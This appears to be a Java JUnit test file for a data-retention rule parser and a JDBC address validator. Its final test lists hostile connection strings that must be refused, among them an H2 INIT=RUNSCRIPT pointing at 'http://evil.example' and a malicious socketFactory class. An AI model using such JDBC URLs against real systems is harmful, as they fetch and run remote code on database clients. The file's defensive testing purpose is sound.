package app.countersign.retention;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatCode;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import app.countersign.kernel.Invalid;
import app.countersign.kernel.Refused;
import java.time.Instant;
import java.util.UUID;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class RuleEntryTest {

    private static RuleEntry entry(String period, String fate, String conditions, String replacements) {
        return new RuleEntry(
                UUID.randomUUID().toString(),
                "Chats",
                "end-customer, staff",
                "okomo-dpa 4-3",
                period,
                "stored",
                fate,
                "public.message",
                "sent_at",
                "zoned",
                conditions,
                replacements,
                "tenant",
                "author",
                "");
    }

    @Test
    void whatIsTypedIsReadAndWrittenAlike() {
        RuleDetails read = entry(
                        "p12m",
                        "anonymise",
                        "status = closed\n\"deleted at\" is not null\n\"a\"\"b\" >= it's 5",
                        "name = NULL\nborn = year\nnote = \"say \"\"no\"\"\"")
                .read();

        assertThat(read.period().toString()).isEqualTo("P12M");
        assertThat(read.categories()).containsExactly("end-customer", "staff");
        assertThat(read.conditions())
                .containsExactly(
                        new Condition("status", Operator.EQUAL, "closed"),
                        new Condition("deleted at", Operator.FILLED, ""),
                        new Condition("a\"b", Operator.GREATER_OR_EQUAL, "it's 5"));
        Rule rule = new Rule(UUID.randomUUID(), read, new Person("1", "Dora"), Instant.EPOCH);
        assertThat(RuleEntry.of(rule).read()).isEqualTo(read);
        assertThat(rule.details()).isEqualTo(read);
    }

    @ParameterizedTest
    @ValueSource(strings = {"12 moons", "", "P0D", "P-1M", "without-delay", "PT0S"})
    void aPeriodIsInWordsOrIsoAndLongerThanNothing(String period) {
        assertThatThrownBy(() -> entry(period, "delete", "", "").read())
                .isInstanceOfSatisfying(
                        Invalid.class, e -> assertThat(e.complaints()).containsOnlyKeys("period"));
    }

    @ParameterizedTest
    @ValueSource(strings = {"P999999999Y", "P101Y", "P1201M", "P36526D", "PT999999999H"})
    void nobodyMeansLongerThanACentury(String period) {
        assertThatThrownBy(() -> entry(period, "delete", "", "").read())
                .isInstanceOfSatisfying(
                        Invalid.class, e -> assertThat(e.complaints()).containsOnlyKeys("period"));
        assertThatCode(() -> entry("P100Y", "delete", "", "").read()).doesNotThrowAnyException();
    }

    @Test
    void aHoldIsOfDaysThatTheDatabaseKnows() {
        assertThat(HoldDesk.day("to", "2026-11-28")).isEqualTo("2026-11-28");
        assertThat(HoldDesk.day("to", " ")).isNull();
        assertThatThrownBy(() -> HoldDesk.day("to", "+999999999-12-31")).isInstanceOf(Invalid.class);
        assertThatThrownBy(() -> HoldDesk.day("to", "1899-12-31")).isInstanceOf(Invalid.class);
        assertThatThrownBy(() -> HoldDesk.day("to", "2026-02-30")).isInstanceOf(Invalid.class);
    }

    @ParameterizedTest
    @ValueSource(strings = {"status like closed", "status = ", "status is null now", "= 3"})
    void aConditionIsAColumnAnOperatorAndAValue(String condition) {
        assertThatThrownBy(() -> entry("P1M", "delete", condition, "").read())
                .isInstanceOfSatisfying(
                        Invalid.class, e -> assertThat(e.complaints()).containsOnlyKeys("conditions"));
    }

    @Test
    void blockingPutsAFixedValue() {
        assertThatThrownBy(() -> entry("P1M", "block", "", "name = null").read())
                .isInstanceOf(Invalid.class);
        assertThatThrownBy(() -> entry("P1M", "anonymise", "", "").read()).isInstanceOf(Invalid.class);
        assertThatCode(() -> entry("P1M", "block", "", "blocked = \"true\"").read())
                .doesNotThrowAnyException();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:postgresql://db.example:5432/chats",
                "jdbc:postgresql://db1.example,db2.example/chats?sslmode=verify-full&targetServerType=primary",
                "jdbc:h2:tcp://db.example:9092/chats;IFEXISTS=TRUE"
            })
    void addressesOfDatabasesAreTaken(String url) {
        assertThatCode(() -> JdbcAddress.judged(url, false, false)).doesNotThrowAnyException();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                "jdbc:mysql://db.example/chats",
                "jdbc:postgresql://user:word@db.example/chats",
                "jdbc:postgresql://db.example/chats?socketFactory=org.example.Evil",
                "jdbc:postgresql://db.example/chats?sslmode=require&loggerFile=/tmp/x",
                "jdbc:postgresql://db.example/chats?password=word",
                "jdbc:h2:mem:countersign",
                "jdbc:h2:file:/data/countersign",
                "jdbc:h2:tcp://db.example/chats;INIT=RUNSCRIPT FROM 'http://evil.example'",
                "jdbc:h2:tcp://db.example/chats;init=x"
            })
    void addressesThatCouldDoMoreAreNot(String url) {
        assertThatThrownBy(() -> JdbcAddress.judged(url, false, false)).isInstanceOf(Refused.class);
    }
}
